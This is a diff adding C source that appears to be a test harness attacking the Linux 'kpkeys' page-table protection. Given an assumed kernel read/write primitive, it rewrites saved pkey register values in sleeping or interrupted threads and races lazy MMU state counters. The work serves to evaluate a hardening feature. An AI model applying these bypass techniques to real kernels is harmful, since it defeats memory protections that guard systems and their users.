@@ -1,0 +1,339 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Where the pkey register of a thread comes from: values that the kernel keeps
+ * in memory while the thread is switched out or interrupted, and what decides
+ * whether a section is closed. The thread then does what direct-write does.
+ */
+#include "attack.h"
+
+#include <signal.h>
+#include <sched.h>
+#include <sys/timerfd.h>
+
+/* Races: how often one is tried, by processes that do not survive if it is lost. */
+#define SECTION_TRIES	4
+#define INTERRUPT_TRIES	16
+#define NR_TIMERS	200
+
+/*
+ * words[]: the thread's task_struct, go on, the hammer's switch, the new counts,
+ * whether the attack sleeps
+ */
+#define TASK	(&shared->words[0])
+#define GO_ON	(&shared->words[1])
+#define HAMMER	(&shared->words[2])
+#define COUNTS	(&shared->words[3])
+#define ASLEEP	(&shared->words[4])
+
+static char *range;
+
+static int direct(void)
+{
+	return steal_by_write(own_page_slot());
+}
+
+/*
+ * Whether half of a word can be a register in the default context, with which
+ * the page tables' pkey, number 1, may be read but not written; and the same
+ * with the right to write.
+ */
+static bool is_register(u64 word, unsigned int half, u64 *open)
+{
+	if (on_arch("um")) {
+		uint32_t pkru = word >> 32 * half;
+
+		/* Most pkeys are closed, as the host's kernel starts programs. */
+		if (pkru >> 8 != 0x555555 || (pkru & 0xf) != 8)
+			return false;
+		*open = word & ~(0xcULL << 32 * half);
+		return true;
+	}
+	if (half || word >> 12 || (word & 0xff) != 0x17)
+		return false;
+	*open = word | 0x20;
+	return true;
+}
+
+/* Opens every value between @from and @to. Returns how many there were. */
+static unsigned int open_registers(u64 from, u64 to)
+{
+	unsigned int half, n = 0;
+	u64 word, open;
+
+	for (; from < to; from += 8) {
+		word = kernel_read(from);
+		for (half = 0; half < 2; half++) {
+			if (!is_register(word, half, &open))
+				continue;
+			kernel_write(from, open);
+			word = open;
+			n++;
+		}
+	}
+	return n;
+}
+
+static void tell_task(void)
+{
+	struct kpkeys_attack_leak own = {};
+
+	get_leak(&own, NULL);
+	*(volatile u64 *)TASK = own.task;
+}
+
+static int sleeper(void *arg)
+{
+	int *pipe_fds = arg;
+	char c;
+
+	tell_task();
+	if (read(pipe_fds[0], &c, 1) != 1)
+		return 1;
+	return steal_as_helper(NULL);
+}
+
+/* A thread that sleeps in a system call. */
+static int switched_out(void)
+{
+	int pipe_fds[2];
+	u64 task, stack, thread;
+	pid_t pid;
+
+	if (pipe(pipe_fds))
+		die("no pipe");
+	pid = start(sleeper, pipe_fds);
+	while (!*(volatile u64 *)TASK)
+		usleep(1000);
+	usleep(100000);
+
+	task = *TASK;
+	thread = task + lookup("task_struct.thread");
+	stack = kernel_read(task + lookup("task_struct.stack"));
+	open_registers(thread, thread + lookup("sizeof thread_struct"));
+	open_registers(stack, stack + lookup("THREAD_SIZE"));
+
+	if (write(pipe_fds[1], "", 1) != 1)
+		die("cannot wake the thread");
+	return steal_with_helper(pid) ? DONE : GAINED_NOTHING;
+}
+
+static bool hammering(void)
+{
+	return *(volatile u64 *)HAMMER;
+}
+
+/* Many timers at once: the interrupt handler of this CPU is slow. */
+static void slow_interrupts(void)
+{
+	struct itimerspec spec = { { 0, 10000000 }, { 0, 10000000 } };
+	int i, fd;
+
+	for (i = 0; i < NR_TIMERS; i++) {
+		fd = timerfd_create(CLOCK_MONOTONIC, 0);
+		if (fd < 0 || timerfd_settime(fd, 0, &spec, NULL))
+			die("cannot start a timer");
+	}
+}
+
+/*
+ * A process that changes page tables on CPU 1, and then writes to one, while
+ * this one writes to the kernel's memory on CPU 0.
+ */
+static int busy_in_sections(void *arg)
+{
+	u64 end;
+
+	(void)arg;
+	run_on_cpu(1);
+	if (!*(volatile u64 *)COUNTS)
+		slow_interrupts();
+	tell_task();
+	while (!*(volatile u64 *)GO_ON)
+		sched_yield();
+	end = now_ns() + 1000000000ULL;
+	do {
+		mprotect(range, PMD_SIZE, PROT_READ);
+		mprotect(range, PMD_SIZE, PROT_READ | PROT_WRITE);
+	} while (hammering() && now_ns() < end);
+	*(volatile u64 *)HAMMER = 0;
+	return steal_as_helper(NULL);
+}
+
+static int busy_in_user_mode(void *arg)
+{
+	u64 end;
+
+	(void)arg;
+	run_on_cpu(1);
+	slow_interrupts();
+	tell_task();
+	while (!*(volatile u64 *)GO_ON)
+		sched_yield();
+	end = now_ns() + 1000000000ULL;
+	while (now_ns() < end)
+		sched_yield();
+	*(volatile u64 *)HAMMER = 0;
+	return steal_as_helper(NULL);
+}
+
+static pid_t start_busy(int (*fn)(void *))
+{
+	pid_t pid;
+
+	*TASK = *GO_ON = 0;
+	*HAMMER = 1;
+	pid = start(fn, NULL);
+	while (!*(volatile u64 *)TASK)
+		usleep(1000);
+	return pid;
+}
+
+static int prepare_race(void)
+{
+	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
+		return not_possible("one CPU only");
+	run_on_cpu(0);
+	range = table_range(0);
+	memset(range, 1, PMD_SIZE);
+	return 0;
+}
+
+/*
+ * Takes a spinlock, a queued one, or gives it back, as its holder would. On UML
+ * the setters take this one, so that a section lasts as long as the attacker
+ * likes.
+ */
+static void set_lock(u64 lock, bool locked)
+{
+	uint32_t word = kernel_read(lock & ~7ULL) >> (lock & 4 ? 32 : 0);
+
+	kernel_write32(lock, (word & ~0xffU) | locked);
+}
+
+/*
+ * Sees a thread in a lazy MMU section, whose first counter is 1, and writes both.
+ * Done by a process with memory of its own: on UML, those with the memory that
+ * the lock is for wait for it when they return to user mode, even with the CPU
+ * that they share with this one. So they sleep.
+ */
+static int write_counts(u64 counts, u64 lock)
+{
+	unsigned int shift = (counts & 7) * 8;
+	u64 addr = counts & ~7ULL, word, start, end = now_ns() + 5000000000ULL;
+	bool um = on_arch("um");
+
+	run_on_cpu(0);
+	wait_for(ASLEEP, 1);
+	usleep(200000);
+	while (hammering() && now_ns() < end) {
+		if (um)
+			set_lock(lock, true);
+		*(volatile u64 *)GO_ON = 1;
+		start = now_ns();
+		do {
+			word = kernel_read(addr);
+			if ((word >> shift & 0xffff) != 1)
+				continue;
+			kernel_write(addr, (word & ~(0xffffULL << shift)) |
+				     *(volatile u64 *)COUNTS << shift);
+			*(volatile u64 *)HAMMER = 0;
+		} while (hammering() && now_ns() - start < 50000000);
+		if (um)
+			set_lock(lock, false);
+		usleep(1000);
+	}
+	return 0;
+}
+
+static int hammer_counts(u64 value)
+{
+	u64 lock = 0;
+	int tries;
+
+	if (prepare_race())
+		return NOT_POSSIBLE;
+	if (on_arch("um"))
+		lock = leak.mm + lookup("mm_struct.context.sync_tlb_lock");
+	for (tries = 0; tries < SECTION_TRIES; tries++) {
+		pid_t pid, hammer;
+
+		*COUNTS = value;
+		pid = start_busy(busy_in_sections);
+		*ASLEEP = 0;
+		shared->nr_writes = 0;
+		hammer = fork();
+		if (!hammer)
+			_exit(write_counts(*TASK + lookup("task_struct.lazy_mmu_state"), lock));
+		*ASLEEP = 1;
+		waitpid(hammer, NULL, 0);
+		if (steal_with_helper(pid))
+			return DONE;
+	}
+	return GAINED_NOTHING;
+}
+
+static int enable_count(void)
+{
+	return hammer_counts(2);
+}
+
+static int pause_count(void)
+{
+	return hammer_counts(0x101);
+}
+
+/*
+ * What is on the stack of a thread that an interrupt has stopped. On UML that is
+ * the frame of the host's signal, whose end loads the register from it.
+ */
+static int interrupted(void)
+{
+	u64 found[16], open[16], from, to, word;
+	unsigned int n, i, half;
+	int tries;
+
+	/* Who hits the moment before the handler returns may win, or end the machine. */
+	if (protected && on_arch("um"))
+		return not_possible("the host keeps the register in a signal frame");
+	if (prepare_race())
+		return NOT_POSSIBLE;
+	for (tries = 0; tries < INTERRUPT_TRIES; tries++) {
+		pid_t pid = start_busy(on_arch("um") ? busy_in_user_mode : busy_in_sections);
+
+		if (on_arch("um"))
+			from = lookup("cpu_irqstacks") + lookup("THREAD_SIZE");
+		else
+			from = kernel_read(*TASK + lookup("task_struct.stack"));
+		to = from + lookup("THREAD_SIZE");
+
+		/* What earlier interrupts have left behind shows where to write. */
+		for (n = 0; from < to && n < ARRAY_SIZE(found); from += 8) {
+			word = kernel_read(from);
+			for (half = 0; half < 2 && n < ARRAY_SIZE(found); half++) {
+				if (!is_register(word, half, &open[n]))
+					continue;
+				found[n++] = from;
+			}
+		}
+		shared->nr_writes = n;
+		*(volatile u64 *)GO_ON = 1;
+		while (hammering()) {
+			for (i = 0; i < n; i++)
+				restore(found[i], open[i]);
+			if (!n)
+				sched_yield();
+		}
+		if (steal_with_helper(pid))
+			return DONE;
+	}
+	return GAINED_NOTHING;
+}
+
+const struct attack registers[] = {
+	{ "direct-write", "an entry of a page table", direct },
+	{ "reg-switched-out", "the register of a thread that sleeps", switched_out },
+	{ "lazy-enable-count", "lazy_mmu_state.enable_count, during a section", enable_count },
+	{ "lazy-pause-count", "lazy_mmu_state.pause_count, during a section", pause_count },
+	{ "reg-interrupted", "the register of a thread that is interrupted", interrupted },
+	{ }
+};
